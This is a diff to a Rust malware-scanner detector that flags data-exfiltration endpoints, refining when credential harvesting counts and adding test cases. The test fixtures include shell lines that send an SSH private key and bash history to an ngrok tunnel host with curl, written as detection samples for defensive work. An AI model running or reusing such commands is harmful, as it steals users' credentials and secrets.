@@ -8,6 +8,9 @@
 //! medium (a library integration) unless the file also harvests credentials or
 //! system facts.
 //!
+//! Harvesting counts where it can run: Python code and strings, or a script (shell, batch,
+//! PowerShell, `#!`); a data file listing host names (a public-suffix list) harvests nothing.
+//!
 //! Destinations by reputation come from [`super::reputation`] (the one list):
 //! paste sites and file drops Medium (install High); out-of-band collaborators, request
 //! bins and tunnels likewise, but High (install Critical) when the file also harvests
@@ -34,7 +37,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 2,
+    revision: 3,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
@@ -115,8 +118,18 @@ impl Detector for ExfilEndpoint {
         if let Some((off, ind, sev)) = super::dns_exfil::find(file, src) {
             hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
         }
+        // Harvesting is something code does: in Python code or strings, or in a script; words
+        // in a data file (a domain list naming a wallet host, a comment) harvest nothing.
         let harvest = std::cell::OnceCell::new();
-        let harvests = || *harvest.get_or_init(|| HARVEST.is_match(file.text));
+        let harvests = || {
+            *harvest.get_or_init(|| {
+                if src.python {
+                    HARVEST.find_iter(file.text).any(|m| src.is_live(m.start()))
+                } else {
+                    super::context::is_script(file) && HARVEST.is_match(file.text)
+                }
+            })
+        };
         let mut found: Vec<(usize, String, Severity)> = Vec::new();
         for c in ENDPOINT.captures_iter(file.text) {
             let m = c.get(0).expect("match");
@@ -290,6 +303,41 @@ mod tests {
                     Runtime,
                     "u = 'https://raw.githubusercontent.com/x/y/main/data.json'\n",
                     None,
+                ),
+                (
+                    "a public-suffix list naming tunnels and a wallet host",
+                    "pkg/public_suffix_list.dat",
+                    Other,
+                    "// wallet hosting\nmywallet.example\n// ngrok\nngrok.io\n",
+                    Some((4, "ngrok.io (tunnel)", Medium)),
+                ),
+                (
+                    "a shell script sending an SSH key to a tunnel",
+                    "pkg/bin/sync.sh",
+                    Other,
+                    "#!/bin/sh\ncurl -d @$HOME/.ssh/id_rsa https://ab12.ngrok.io/k\n",
+                    Some((2, "ab12.ngrok.io (tunnel)", High)),
+                ),
+                (
+                    "a script without an extension, by its #! line",
+                    "pkg/bin/sync",
+                    Other,
+                    "#!/bin/bash\ncat ~/.bash_history | curl -d @- https://ab12.ngrok.io/h\n",
+                    Some((2, "ab12.ngrok.io (tunnel)", High)),
+                ),
+                (
+                    "harvest words only in a comment of a Python file",
+                    "pkg/a.py",
+                    Runtime,
+                    "# never read the wallet or ~/.ssh/ here\nHOST = 'abc123.ngrok-free.app'\n",
+                    Some((2, "abc123.ngrok-free.app (tunnel)", Medium)),
+                ),
+                (
+                    "host name harvested in code next to a tunnel",
+                    "pkg/a.py",
+                    Runtime,
+                    "h = socket.gethostname()\nHOST = 'abc123.ngrok-free.app'\n",
+                    Some((2, "abc123.ngrok-free.app (tunnel)", High)),
                 ),
                 ("webhook in comment", "pkg/a.py", Runtime, "# see https://discord.com/api/webhooks\nx = 1\n", None),
                 ("discord word only", "pkg/a.py", Runtime, "NAME = 'discord.py bot'\n", None),
